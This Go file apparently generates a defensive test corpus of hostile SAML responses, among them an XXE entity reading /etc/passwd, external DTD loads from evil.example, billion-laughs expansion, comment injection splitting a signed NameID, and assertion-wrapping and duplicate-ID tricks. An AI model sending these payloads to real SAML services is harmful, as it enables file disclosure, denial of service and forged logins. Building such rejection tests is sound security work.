package corpus

import (
	"fmt"
	"strings"

	"github.com/beevik/etree"

	"lyceum/auth/saml"
	"lyceum/auth/saml/internal/answer"
	"lyceum/auth/saml/internal/xmlenc"
)

// documents are broken, ambiguous or too large before they are SAML at all.
func (m *maker) documents() {
	honest := string(m.bytes(nil))
	prefixed := func(name, reason, does, prefix string) { m.hostile(name, reason, does, []byte(prefix+honest)) }
	prefixed("dtd", "dtd", "a document type declaration", `<!DOCTYPE samlp:Response>`)
	prefixed("dtd_external", "dtd", "an external DTD", `<!DOCTYPE samlp:Response SYSTEM "https://evil.example/x.dtd">`)
	prefixed("dtd_parameter_entity", "dtd", "a parameter entity that loads", `<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>`)
	m.hostile("xxe", "dtd", "an entity that reads a file, as the name", []byte(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`+strings.Replace(honest, ">"+Person+"</saml:NameID>", ">&x;</saml:NameID>", 1)))
	laughs := `<!DOCTYPE r [<!ENTITY a "ha">`
	for i := 'b'; i < 'l'; i++ {
		laughs += fmt.Sprintf(`<!ENTITY %c "%s">`, i, strings.Repeat(fmt.Sprintf("&%c;", i-1), 10))
	}
	m.hostile("billion_laughs", "dtd", "entities that grow to a billion", []byte(laughs+`]>`+strings.Replace(honest, ">"+Person+"</saml:NameID>", ">&k;</saml:NameID>", 1)))
	m.hostile("entity_undefined", "xml", "an entity that nobody declared", []byte(strings.Replace(honest, ">"+Person+"</saml:NameID>", ">&x;</saml:NameID>", 1)))
	m.hostile("oversized", "size", "more than 256 KiB", []byte(honest), func(e *Entry) { e.Padding = saml.MaxMessage })
	m.hostile("oversized_base64", "size", "so much base64 that it is not decoded", []byte(honest), func(e *Entry) { e.Padding = 3 * saml.MaxMessage })
	m.hostile("not_base64", "base64", "no base64 at all", []byte("<<<not base64>>>"), func(e *Entry) { e.File = "not_base64.b64" })
	m.hostile("empty", "xml", "nothing", nil, func(e *Entry) { e.File = "empty.b64" })
	m.hostile("not_xml", "xml", "no XML", []byte("hello"))
	m.hostile("cut_off", "xml", "the end is missing", []byte(honest[:len(honest)-30]))
	m.hostile("two_roots", "xml", "a second response after the first", []byte(honest+honest))
	m.hostile("text_after_root", "xml", "text after the root", []byte(honest+"trailing"))
	m.hostile("not_utf8", "xml", "bytes that are not UTF-8", []byte(strings.Replace(honest, Person, "ann\xff@acme.example", 1)))
	prefixed("other_charset", "xml", "declared as UTF-16", `<?xml version="1.0" encoding="UTF-16"?>`)
	m.hostile("deep", "xml", "a hundred elements deep", []byte(strings.Repeat("<a>", 100)+strings.Repeat("</a>", 100)))
	m.hostile("wide", "xml", "twenty thousand elements", []byte("<a>"+strings.Repeat("<b/>", 20000)+"</a>"))
	m.hostile("comment_bomb", "xml", "two hundred comments, each of which canonicalisation takes out by itself", []byte(strings.Replace(honest, "<samlp:Status>", strings.Repeat("<!---->", 200)+"<samlp:Status>", 1)))
	spaces := ""
	for i := range 50 {
		spaces += fmt.Sprintf(` xmlns:n%d="urn:example"`, i)
	}
	m.hostile("namespace_bomb", "xml", "a hundred namespaces in scope of each element", []byte(strings.Replace(honest, "<samlp:Status>", "<a"+spaces+"><a"+strings.ReplaceAll(spaces, ":n", ":m")+"/></a><samlp:Status>", 1)))
	m.hostile("attribute_twice", "xml", "an attribute twice", []byte(strings.Replace(honest, `Version="2.0"`, `Version="2.0" Version="2.0"`, 1)))
	m.hostile("name_with_colon", "xml", "a name that begins with a colon", []byte(strings.Replace(honest, "<samlp:Status>", "<samlp:Status><:x/>", 1)))
	m.hostile("attribute_with_colon", "xml", "an attribute whose name ends with a colon", []byte(strings.Replace(honest, "<samlp:Status>", `<samlp:Status a:="b">`, 1)))
}

// comments split values.
func (m *maker) comments() {
	honest := string(m.bytes(nil))
	m.hostile("comment_in_name", "comment", "a comment splits the name", []byte(strings.Replace(honest, ">"+Person+"<", ">ann<!-- -->@acme.example<", 1)))
	m.hostile("comment_at_the_end_of_name", "comment", "a signed name is cut by a comment", []byte(strings.Replace(honest, ">"+Person+"<", ">ann@acme.example<!---->.evil.example<", 1)))
	m.hostile("comment_in_audience", "comment", "a comment splits the audience", []byte(strings.Replace(honest, "<saml:Audience>https://acme", "<saml:Audience>https:<!---->//acme", 1)))
	m.hostile("instruction_in_name", "comment", "a processing instruction splits the name", []byte(strings.Replace(honest, ">"+Person+"<", ">ann<?x y?>@acme.example<", 1)))
	m.hostile("comment_in_name_signed", "comment", "the provider itself signs a name with a comment, canonicalised with comments", m.bytes(func(a *answer.Answer) {
		a.TamperAssertion = func(el *etree.Element) {
			name := find(el, "./Subject/NameID")
			name.SetText("ann@acme.example")
			name.CreateComment("x")
			name.CreateText(".evil.example")
		}
	}))
}

// names play with IDs, names and namespaces, and with how many assertions there are.
func (m *maker) names() {
	honest := string(m.bytes(nil))
	m.hostile("ids_twice", "ids", "the response and the assertion have one ID", m.bytes(func(a *answer.Answer) { a.ID, a.AssertionID = "_same", "_same" }))
	r := m.tree(nil)
	find(r, "./Assertion").CreateAttr("samlp:ID", "_other")
	m.hostile("id_under_a_prefix", "ids", "a second ID under a prefix", write(r))
	r = m.tree(nil)
	find(r, "./Assertion").CreateAttr("xml:id", "_other")
	m.hostile("xml_id", "ids", "a second ID as xml:id", write(r))
	r = m.tree(nil)
	find(r, "./Assertion/Subject").CreateAttr("Id", find(r, "./Assertion").SelectAttrValue("ID", ""))
	m.hostile("ids_in_other_case", "ids", "the assertion's ID once more as Id", write(r))
	m.hostile("other_namespace", "message", "a Response of no namespace of SAML", []byte(strings.Replace(honest, nsP, "urn:example:protocol", 1)))
	m.hostile("prefix_undeclared", "message", "the prefix of the response is not declared", []byte(strings.Replace(honest, ` xmlns:samlp="`+nsP+`"`, "", 1)))
	m.hostile("assertion_of_other_namespace", "one_assertion", "an Assertion of another namespace", []byte(strings.ReplaceAll(honest, nsA, "urn:example:assertion")))
	m.hostile("saml_1", "message", "version 1.1", []byte(strings.Replace(honest, `Version="2.0"`, `Version="1.1"`, 1)))
	m.hostile("assertion_alone", "message", "an assertion without a response", write(find(m.tree(nil), "./Assertion").Copy()))
	m.hostile("logout_response", "message", "a signed logout response at the wrong door", []byte(strings.ReplaceAll(honest, "samlp:Response", "samlp:LogoutResponse")))
	m.hostile("no_assertion", "one_assertion", "success and no assertion", m.bytes(func(a *answer.Answer) {
		responseSigned(a)
		a.TamperResponse = func(el *etree.Element) { el.RemoveChild(find(el, "./Assertion")) }
	}))
	m.hostile("two_signed_assertions", "one_assertion", "two assertions, both signed", write(m.with(m.tree(nil), find(m.tree(nil), "./Assertion").Copy())))
	m.hostile("unsigned_after_signed", "one_assertion", "an evil assertion after the signed one", write(m.with(m.tree(nil), evil(unsigned(find(m.tree(nil), "./Assertion").Copy())))))
	sealed := must(answer.Seal(evil(unsigned(find(m.tree(nil), "./Assertion").Copy())), m.us, xmlenc.Recipe{}))
	m.hostile("encrypted_beside_plain", "one_assertion", "an encrypted evil assertion beside the signed one", write(m.with(m.tree(nil), sealed)))
}

func (m *maker) with(root, extra *etree.Element) *etree.Element { root.AddChild(extra); return root }
